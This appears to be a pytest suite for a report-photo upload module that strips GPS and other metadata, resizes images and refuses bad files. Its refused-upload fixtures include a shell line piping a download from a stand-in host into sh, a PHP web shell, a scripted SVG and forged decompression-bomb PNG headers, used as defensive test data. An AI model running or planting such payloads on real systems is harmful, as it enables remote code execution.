"""Report photos: what is accepted, what is refused, and that stored copies carry no metadata.

Every image is made in memory with Pillow; no binary fixtures. No database.
"""

import datetime as dt
import hashlib
import io
import pickle
import random
import re
import struct
import warnings
import zlib

import pytest
from PIL import Image, ImageFile

from ruam.reports import photos
from ruam.reports.photos import PhotoError, process_photo, sniff

from ..conftest import unavailable

THAI = re.compile("[\u0e00-\u0e7f]")

EXIF_IFD = 0x8769
GPS_IFD = 0x8825
ORIENTATION = 0x0112
DATETIME = 306
DATETIME_ORIGINAL = 36867


# --- making test images ---------------------------------------------------------------------


def encode(img: Image.Image, fmt: str, **params) -> bytes:
    buffer = io.BytesIO()
    img.save(buffer, format=fmt, **params)
    return buffer.getvalue()


def noisy(size: tuple[int, int]) -> Image.Image:
    """Random (seeded) pixels, so its files are big and cutting one loses real image data."""
    return Image.frombytes("RGB", size, random.Random(f"{size}").randbytes(size[0] * size[1] * 3))


def exif_with_gps(**tags) -> Image.Exif:
    """EXIF as a phone writes it: GPS position in Bangkok, camera details, plus ``tags``."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif[0x0110] = "Phone 15"
    gps = exif.get_ifd(GPS_IFD)
    gps[1] = "N"
    gps[2] = (13.0, 45.0, 22.5)
    gps[3] = "E"
    gps[4] = (100.0, 30.0, 5.0)
    for tag, value in tags.items():
        if tag == "orientation":
            exif[ORIENTATION] = value
        elif tag == "datetime_original":
            exif.get_ifd(EXIF_IFD)[DATETIME_ORIGINAL] = value
        elif tag == "datetime":
            exif[DATETIME] = value
    return exif


def png_claiming_size(width: int, height: int) -> bytes:
    """A tiny real PNG whose IHDR (and its CRC) is patched to claim ``width`` x ``height``."""
    data = bytearray(encode(Image.new("RGB", (8, 8), "white"), "PNG"))
    assert data[12:16] == b"IHDR"
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def jpeg_markers(data: bytes) -> list[int]:
    """The marker bytes of a JPEG's segments, from SOI up to and including SOS."""
    assert data[:2] == b"\xff\xd8"
    markers, pos = [], 2
    while pos < len(data):
        assert data[pos] == 0xFF, f"not a marker at {pos}"
        marker = data[pos + 1]
        markers.append(marker)
        if marker == 0xDA:  # SOS: entropy-coded data follows
            break
        (length,) = struct.unpack(">H", data[pos + 2 : pos + 4])
        pos += 2 + length
    return markers


def rgb_icc_profile(red_xyz, green_xyz, blue_xyz, *, gamma: float = 2.2) -> bytes:
    """A minimal ICC v2 RGB matrix/TRC display profile with the given (D50) colorants."""

    def s15(value: float) -> bytes:
        return struct.pack(">i", round(value * 65536))

    def xyz(values) -> bytes:
        return b"XYZ " + bytes(4) + b"".join(s15(v) for v in values)

    description = b"test RGB\x00"
    tags = {
        b"desc": b"desc"
        + bytes(4)
        + struct.pack(">I", len(description))
        + description
        + bytes(4 + 4 + 2 + 1 + 67),
        b"wtpt": xyz((0.9642, 1.0, 0.8249)),
        b"rXYZ": xyz(red_xyz),
        b"gXYZ": xyz(green_xyz),
        b"bXYZ": xyz(blue_xyz),
        b"rTRC": b"curv" + bytes(4) + struct.pack(">IH", 1, round(gamma * 256)) + bytes(2),
    }
    tags[b"gTRC"] = tags[b"bTRC"] = tags[b"rTRC"]
    table, body = b"", b""
    offset = 128 + 4 + 12 * len(tags)
    for signature, payload in tags.items():
        table += signature + struct.pack(">II", offset + len(body), len(payload))
        body += payload + bytes(-len(payload) % 4)
    header_rest = (
        bytes(4)  # preferred CMM
        + struct.pack(">I", 0x02100000)  # version 2.1
        + b"mntrRGB XYZ "
        + bytes(12)  # date
        + b"acsp"
        + bytes(4 + 4 + 4 + 4 + 8 + 4)  # platform, flags, maker, model, attributes, intent
        + s15(0.9642)
        + s15(1.0)
        + s15(0.8249)  # PCS illuminant D50
        + bytes(4 + 44)  # creator, id and reserved
    )
    profile = header_rest + struct.pack(">I", len(tags)) + table + body
    return struct.pack(">I", 4 + len(profile)) + profile


# sRGB's colorants adapted to D50, as ICC profiles store them.
SRGB_RED = (0.4361, 0.2225, 0.0139)
SRGB_GREEN = (0.3851, 0.7169, 0.0971)
SRGB_BLUE = (0.1431, 0.0606, 0.7141)


def heif(img: Image.Image, **params) -> bytes:
    """``img`` as HEIF; without a working pillow-heif the test is skipped, or fails in CI."""
    if not photos.HEIC_SUPPORTED:
        unavailable("pillow-heif could not be registered: HEIC is unsupported here")
    try:
        return encode(img, "HEIF", **params)
    except (KeyError, OSError, ValueError) as exc:
        unavailable(f"this pillow-heif build cannot encode HEIF: {exc}")


def reopen(data: bytes) -> Image.Image:
    img = Image.open(io.BytesIO(data))
    img.load()
    return img


def assert_no_metadata(data: bytes) -> None:
    img = Image.open(io.BytesIO(data))
    assert img.format == "JPEG"
    assert len(img.getexif()) == 0
    assert not {"exif", "icc_profile", "xmp", "comment", "photoshop"} & set(img.info)
    markers = jpeg_markers(data)
    assert {m for m in markers if 0xE0 <= m <= 0xEF} <= {0xE0}, "only the JFIF APP0 segment"
    assert 0xFE not in markers, "no COM (comment) segment"
    for needle in (b"Exif", b"ICC_PROFILE", b"http://ns.adobe.com/xap", b"PhoneMaker", b"secret"):
        assert needle not in data


# --- accepted photos --------------------------------------------------------------------------


def test_phone_jpeg_loses_gps_and_all_metadata_keeps_time_taken_and_is_turned_upright():
    # Stored 400x200: left half red, right half blue. Orientation 6 means "rotate 90° clockwise
    # to display", so upright it is 200x400 with red on top.
    img = Image.new("RGB", (400, 200), (220, 0, 0))
    img.paste((0, 0, 220), (200, 0, 400, 200))
    exif = exif_with_gps(orientation=6, datetime_original="2024:03:15 08:30:00")
    data = encode(img, "JPEG", exif=exif, xmp=b"<x:xmpmeta>secret</x:xmpmeta>", comment=b"secret")
    # The input really carries what must go.
    source = Image.open(io.BytesIO(data))
    assert dict(source.getexif().get_ifd(GPS_IFD))[2] == (13.0, 45.0, 22.5)
    assert b"secret" in data

    photo = process_photo(data)

    assert photo.taken_at == dt.datetime(2024, 3, 15, 8, 30, 0)
    assert photo.taken_at.tzinfo is None
    assert (photo.width, photo.height) == (200, 400)
    large = reopen(photo.large)
    assert large.size == (200, 400)
    top, bottom = large.getpixel((100, 50)), large.getpixel((100, 350))
    assert top[0] > 180 and top[2] < 60, top
    assert bottom[2] > 180 and bottom[0] < 60, bottom
    assert reopen(photo.thumbnail).size == (160, 320)
    assert_no_metadata(photo.large)
    assert_no_metadata(photo.thumbnail)


def test_the_thumbnail_looks_like_a_fair_resize_of_the_large_copy():
    """The thumbnail is made the quick way (reducing_gap): no visible difference from a fair
    Lanczos resize of the same pixels."""
    from PIL import ImageChops, ImageFilter, ImageStat

    scene = Image.linear_gradient("L").resize((1600, 1200)).convert("RGB")
    grain = Image.effect_noise((1600, 1200), 40).convert("RGB").filter(ImageFilter.GaussianBlur(1))
    buffer = io.BytesIO()
    Image.blend(scene, grain, 0.4).save(buffer, "JPEG", quality=95)
    photo = process_photo(buffer.getvalue())
    large = Image.open(io.BytesIO(photo.large)).convert("RGB")
    thumbnail = Image.open(io.BytesIO(photo.thumbnail)).convert("RGB")
    fair = large.resize(thumbnail.size, Image.Resampling.LANCZOS)
    difference = ImageStat.Stat(ImageChops.difference(thumbnail, fair))
    assert max(difference.mean) < 2.0  # of 255: JPEG's own loss is of that order
    assert max(difference.rms) < 3.0


def test_stored_copies_are_progressive_rgb_jpeg_and_hash_the_original_bytes():
    data = encode(noisy((300, 200)), "PNG")
    photo = process_photo(data)
    assert (photo.content_type, photo.extension, photo.source_format) == (
        "image/jpeg",
        "jpg",
        "png",
    )
    assert photo.sha256 == hashlib.sha256(data).hexdigest()
    assert photo.taken_at is None
    for copy in (photo.large, photo.thumbnail):
        assert reopen(copy).mode == "RGB"
        assert 0xC2 in jpeg_markers(copy), "SOF2: progressive"


def test_same_photo_twice_has_the_same_hash_and_a_different_photo_does_not():
    first = encode(noisy((64, 64)), "JPEG")
    other = encode(Image.new("RGB", (64, 64), "green"), "JPEG")
    assert process_photo(first).sha256 == process_photo(bytes(first)).sha256
    assert process_photo(first).sha256 != process_photo(other).sha256


@pytest.mark.parametrize(
    ("exif_tags", "expected"),
    [
        ({"datetime_original": "2023:12:31 23:59:58"}, dt.datetime(2023, 12, 31, 23, 59, 58)),
        ({"datetime": "2022:01:02 03:04:05"}, dt.datetime(2022, 1, 2, 3, 4, 5)),
        (
            {"datetime_original": "2023:12:31 23:59:58", "datetime": "2025:06:01 10:00:00"},
            dt.datetime(2023, 12, 31, 23, 59, 58),
        ),
        ({"datetime_original": "0000:00:00 00:00:00"}, None),
        ({"datetime_original": "2024:02:30 10:00:00"}, None),
        ({"datetime_original": "yesterday"}, None),
        ({"datetime_original": "    :  :     :  :  "}, None),
        (
            {"datetime_original": "0000:00:00 00:00:00", "datetime": "2022:01:02 03:04:05"},
            dt.datetime(2022, 1, 2, 3, 4, 5),
        ),
        ({}, None),
    ],
)
def test_time_taken_comes_from_date_time_original_else_date_time(exif_tags, expected):
    data = encode(Image.new("RGB", (32, 32)), "JPEG", exif=exif_with_gps(**exif_tags))
    assert process_photo(data).taken_at == expected


@pytest.mark.parametrize(
    ("mode", "fmt", "params"),
    [
        ("RGBA", "PNG", {}),
        ("LA", "PNG", {}),
        ("RGBA", "WEBP", {"lossless": True}),
    ],
)
def test_transparency_is_flattened_onto_white(mode, fmt, params):
    img = Image.new(mode, (64, 64), (0,) * len(mode))  # fully transparent black
    img.paste((40,) * (len(mode) - 1) + (255,), (32, 0, 64, 64))  # right half: opaque dark
    photo = process_photo(encode(img, fmt, **params))
    large = reopen(photo.large)
    assert large.mode == "RGB"
    assert all(channel >= 245 for channel in large.getpixel((8, 32))), large.getpixel((8, 32))
    assert all(channel <= 60 for channel in large.getpixel((56, 32))), large.getpixel((56, 32))


def test_palette_png_transparency_is_flattened_onto_white():
    img = Image.new("P", (64, 64), 0)
    img.putpalette([0, 0, 0, 200, 0, 0])
    img.paste(1, (32, 0, 64, 64))
    large = reopen(process_photo(encode(img, "PNG", transparency=0)).large)
    assert all(channel >= 245 for channel in large.getpixel((8, 32)))
    assert large.getpixel((56, 32))[0] > 150


def test_sixteen_bit_greyscale_png_keeps_its_tones():
    img = Image.new("I;16", (64, 64), 0x8000)  # mid grey in 16 bits
    large = reopen(process_photo(encode(img, "PNG")).large)
    assert all(120 <= channel <= 136 for channel in large.getpixel((32, 32)))


def test_webp_is_accepted():
    img = Image.new("RGB", (300, 200), (10, 160, 60))
    photo = process_photo(encode(img, "WEBP", quality=90))
    assert photo.source_format == "webp"
    assert (photo.width, photo.height) == (300, 200)
    r, g, b = reopen(photo.large).getpixel((150, 100))
    assert g > 130 and r < 50 and b < 90
    assert_no_metadata(photo.large)


def test_heic_is_accepted_and_loses_its_gps():
    img = Image.new("RGB", (320, 240), (200, 30, 30))
    data = heif(img, exif=exif_with_gps(datetime_original="2024:05:01 12:00:00").tobytes())
    assert sniff(data) == "heic"
    photo = process_photo(data)
    assert photo.source_format == "heic"
    assert (photo.width, photo.height) == (320, 240)
    assert photo.taken_at == dt.datetime(2024, 5, 1, 12, 0, 0)
    r, g, b = reopen(photo.large).getpixel((160, 120))
    assert r > 150 and g < 80 and b < 80
    assert_no_metadata(photo.large)
    assert_no_metadata(photo.thumbnail)


def test_heic_is_refused_as_unsupported_when_pillow_heif_is_unavailable(monkeypatch):
    monkeypatch.setattr(photos, "ALLOWED_FORMATS", frozenset({"jpeg", "png", "webp"}))
    data = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(64)
    with pytest.raises(PhotoError) as caught:
        process_photo(data)
    assert caught.value.code == "unsupported_type"
    assert "HEIC" not in caught.value.message_en


def test_wide_gamut_colours_are_converted_to_srgb_before_the_profile_is_dropped():
    # A profile whose "red" channel is sRGB's green: pure red pixels under it are green.
    swapped = rgb_icc_profile(SRGB_GREEN, SRGB_RED, SRGB_BLUE)
    data = encode(Image.new("RGB", (64, 64), (255, 0, 0)), "JPEG", quality=95, icc_profile=swapped)
    assert Image.open(io.BytesIO(data)).info["icc_profile"] == swapped
    photo = process_photo(data)
    r, g, b = reopen(photo.large).getpixel((32, 32))
    assert g > 200 and r < 60 and b < 60, (r, g, b)
    assert_no_metadata(photo.large)


def test_an_unusable_icc_profile_is_ignored():
    data = encode(Image.new("RGB", (64, 64), (255, 0, 0)), "JPEG", icc_profile=b"not a profile")
    r, g, b = reopen(process_photo(data).large).getpixel((32, 32))
    assert r > 200 and g < 60 and b < 60


# --- sizes ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("size", "large", "thumbnail"),
    [
        ((4000, 3000), (1600, 1200), (320, 240)),
        ((3000, 4000), (1200, 1600), (240, 320)),
        ((1600, 900), (1600, 900), (320, 180)),
        ((500, 300), (500, 300), (320, 192)),
        ((200, 100), (200, 100), (200, 100)),
        ((5000, 10), (1600, 3), (320, 1)),
    ],
)
def test_copies_fit_their_longest_edge_and_are_never_upscaled(size, large, thumbnail):
    photo = process_photo(encode(Image.new("RGB", size, (90, 90, 90)), "JPEG"))
    assert (photo.width, photo.height) == large
    assert reopen(photo.large).size == large
    assert reopen(photo.thumbnail).size == thumbnail


def test_edges_and_quality_can_be_chosen():
    data = encode(noisy((1000, 500)), "PNG")
    small = process_photo(data, large_edge=800, thumb_edge=100, quality=30)
    assert reopen(small.large).size == (800, 400)
    assert reopen(small.thumbnail).size == (100, 50)
    assert len(small.large) < len(process_photo(data, large_edge=800, quality=95).large)


# --- refused uploads --------------------------------------------------------------------------


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def refusal(data: bytes, **limits) -> PhotoError:
    with pytest.raises(PhotoError) as caught:
        process_photo(data, **limits)
    return caught.value


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty"),
        (encode(Image.new("RGB", (16, 16), "red"), "GIF"), "unsupported_type"),
        (encode(Image.new("RGB", (16, 16), "red"), "BMP"), "unsupported_type"),
        (encode(Image.new("RGB", (16, 16), "red"), "TIFF"), "unsupported_type"),
        (SVG, "unsupported_type"),
        (b'\xef\xbb\xbf<?xml version="1.0"?>\n' + SVG, "unsupported_type"),
        (b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + bytes(64), "unsupported_type"),
        (b"\x00\x00\x00\x1cftypmif1\x00\x00\x00\x00mif1avif" + bytes(64), "unsupported_type"),
        (b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n", "not_an_image"),
        (b"#!/bin/sh\ncurl http://evil.example/x | sh\n", "not_an_image"),
        (b"<?php system($_GET['c']); ?>", "not_an_image"),
        (b"<html><body>hello</body></html>", "not_an_image"),
        (b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + bytes(64), "not_an_image"),
        (b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(32), "not_an_image"),
        (b"BMW 320i for sale", "not_an_image"),
        (b"\xff\xd8\xff", "corrupt"),
        (b"\xff\xd8\xff\xe0 this is not really a JPEG at all", "corrupt"),
        (b"\x89PNG\r\n\x1a\n" + b"garbage" * 10, "corrupt"),
        (b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(32), "corrupt"),
    ],
    ids=[
        "empty",
        "gif",
        "bmp",
        "tiff",
        "svg",
        "svg-with-prolog",
        "avif",
        "avif-generic-brand",
        "pdf",
        "shell-script",
        "php",
        "html",
        "mp4",
        "wav",
        "text-starting-with-BM",
        "jpeg-magic-only",
        "jpeg-magic-then-text",
        "png-signature-then-garbage",
        "webp-empty",
    ],
)
def test_refused_with_the_right_code(data, code):
    assert refusal(data).code == code


def test_too_large_is_refused_before_anything_is_parsed():
    jpeg = encode(noisy((64, 64)), "JPEG")
    assert refusal(jpeg, max_bytes=len(jpeg) - 1).code == "too_large"
    assert process_photo(jpeg, max_bytes=len(jpeg)).width == 64
    # Even bytes that are no image at all: size is checked first.
    assert refusal(b"#!/bin/sh\n" * 10, max_bytes=50).code == "too_large"


def test_default_limit_is_ten_megabytes():
    jpeg = encode(Image.new("RGB", (8, 8)), "JPEG")
    error = refusal(jpeg + bytes(photos.MAX_BYTES - len(jpeg) + 1))
    assert error.code == "too_large"
    assert "10 MB" in error.message_th and "10 MB" in error.message_en


def test_bomb_header_is_refused_from_the_header_without_decoding(monkeypatch):
    def no_decoding(self, *args, **kwargs):
        raise AssertionError("pixels were decoded")

    header_only = png_claiming_size(8000, 6000)  # 48 MP: under Pillow's own limit, over ours
    real = encode(noisy((100, 100)), "JPEG")
    monkeypatch.setattr(ImageFile.ImageFile, "load", no_decoding)
    monkeypatch.setattr(Image.Image, "load", no_decoding)

    assert refusal(header_only).code == "too_many_pixels"
    # A real, small image with a lower limit: also refused before decoding.
    assert refusal(real, max_pixels=9_999).code == "too_many_pixels"


def test_bomb_header_of_ten_billion_pixels_is_refused():
    bomb = png_claiming_size(100_000, 100_000)
    assert Image.open(io.BytesIO(png_claiming_size(8, 8))).size == (8, 8)  # the patch is valid
    error = refusal(bomb)
    assert error.code == "too_many_pixels"
    assert "40" in error.message_en and "40" in error.message_th


def test_pillows_own_bomb_guard_is_reported_as_too_many_pixels():
    # Our limit raised far above Pillow's: Pillow's DecompressionBombError still stops it.
    assert refusal(png_claiming_size(100_000, 100_000), max_pixels=10**12).code == "too_many_pixels"
    # Where Pillow's DecompressionBombWarning is an error (10000 x 10000 is between its limits).
    with warnings.catch_warnings():
        warnings.simplefilter("error", Image.DecompressionBombWarning)
        error = refusal(png_claiming_size(10_000, 10_000), max_pixels=10**12)
    assert error.code == "too_many_pixels"


def test_exactly_max_pixels_is_accepted():
    assert process_photo(encode(noisy((100, 100)), "PNG"), max_pixels=10_000).width == 100


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_truncated_upload_is_corrupt(fmt):
    data = encode(noisy((300, 300)), fmt)
    assert refusal(data[: len(data) // 2]).code == "corrupt"


def test_truncated_heic_is_corrupt():
    data = heif(noisy((256, 256)))
    assert refusal(data[: len(data) // 2]).code == "corrupt"


def test_bad_settings_are_programming_errors_not_photo_errors():
    data = encode(Image.new("RGB", (8, 8)), "JPEG")
    for settings in ({"large_edge": 0}, {"thumb_edge": -1}, {"quality": 0}, {"quality": 101}):
        with pytest.raises(ValueError) as caught:
            process_photo(data, **settings)
        assert not isinstance(caught.value, PhotoError)


# --- errors and sniffing ----------------------------------------------------------------------


@pytest.mark.parametrize("code", sorted(photos.CODES))
def test_every_error_speaks_thai_and_english(code):
    error = PhotoError(code)
    assert isinstance(error, ValueError)
    assert error.code == code
    assert THAI.search(error.message_th), error.message_th
    assert error.message_en.strip() and not THAI.search(error.message_en)
    assert error.message_en.isascii()
    assert error.message_th != error.message_en
    assert str(error) == error.message_en
    copy = pickle.loads(pickle.dumps(error))  # noqa: S301 - our own bytes
    assert (copy.code, copy.message_th, copy.message_en) == (
        code,
        error.message_th,
        error.message_en,
    )


def test_messages_quote_the_limits_in_force():
    assert "สูงสุด 2 MB" in PhotoError("too_large", max_bytes=2 * 1024 * 1024).message_th
    assert (
        "maximum 12 megapixels" in PhotoError("too_many_pixels", max_pixels=12_000_000).message_en
    )
    assert refusal(b"x" * 2000, max_bytes=1024).message_en.endswith("(maximum 1 KB).")


def test_unknown_error_code_is_a_programming_error():
    with pytest.raises(ValueError, match="unknown photo error code"):
        PhotoError("sad")


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (encode(Image.new("RGB", (8, 8)), "JPEG"), "jpeg"),
        (encode(Image.new("RGB", (8, 8)), "PNG"), "png"),
        (encode(Image.new("RGB", (8, 8)), "WEBP"), "webp"),
        (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "heic"),
        (b"\x00\x00\x00\x18ftypheix\x00\x00\x00\x00mif1heix", "heic"),
        (b"\x00\x00\x00\x18ftyphevc\x00\x00\x00\x00msf1hevc", "heic"),
        (b"\x00\x00\x00\x18ftypmif1\x00\x00\x00\x00mif1heic", "heic"),
        (b"\x00\x00\x00\x14ftypmsf1\x00\x00\x00\x00msf1", "heic"),
        (b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf", None),
        (b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2", None),
        (encode(Image.new("RGB", (8, 8)), "GIF"), None),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", None),
        (b"%PDF-1.4", None),
        (b"RIFF\x00\x00\x00\x00WAVE", None),
        (b"\xff\xd8", None),
        (b"", None),
    ],
)
def test_sniff_reads_magic_bytes(data, expected):
    assert sniff(data) == expected


def test_sniff_ignores_names_only_bytes_matter():
    # A script named "photo.jpg", with image words and a JPEG name inside it, is still not a JPEG.
    script = b'#!/bin/sh\n# photo.jpg image/jpeg JFIF Exif\nmv "$1" photo.jpg\n'
    assert sniff(script) is None
    assert refusal(script).code == "not_an_image"
    # A real PNG is a PNG whatever it would be called; sniff takes nothing but the bytes.
    assert sniff(encode(Image.new("RGB", (8, 8)), "PNG")) == "png"
    assert sniff(b"photo.png") is None and sniff(b"image/png") is None
    assert sniff(bytearray(b"\xff\xd8\xff\xe0")) == "jpeg"
    with pytest.raises(TypeError):
        sniff(b"\x89PNG\r\n\x1a\n", filename="photo.jpg")  # type: ignore[call-arg]


def test_allowed_formats_match_what_can_be_opened():
    assert {"jpeg", "png", "webp"} <= photos.ALLOWED_FORMATS
    assert ("heic" in photos.ALLOWED_FORMATS) == photos.HEIC_SUPPORTED
    assert set(photos._PIL_FORMATS) >= photos.ALLOWED_FORMATS


def test_truncated_uploads_are_refused_even_after_weasyprint_is_imported():
    """WeasyPrint sets Pillow's LOAD_TRUNCATED_IMAGES for the whole process when imported."""
    import io

    import weasyprint  # noqa: F401
    from PIL import Image as PILImage

    from ruam.reports.photos import PhotoError, process_photo

    buffer = io.BytesIO()
    PILImage.new("RGB", (800, 600), (10, 200, 30)).save(buffer, "JPEG")
    data = buffer.getvalue()
    with pytest.raises(PhotoError) as caught:
        process_photo(data[: len(data) // 2])
    assert caught.value.code == "corrupt"
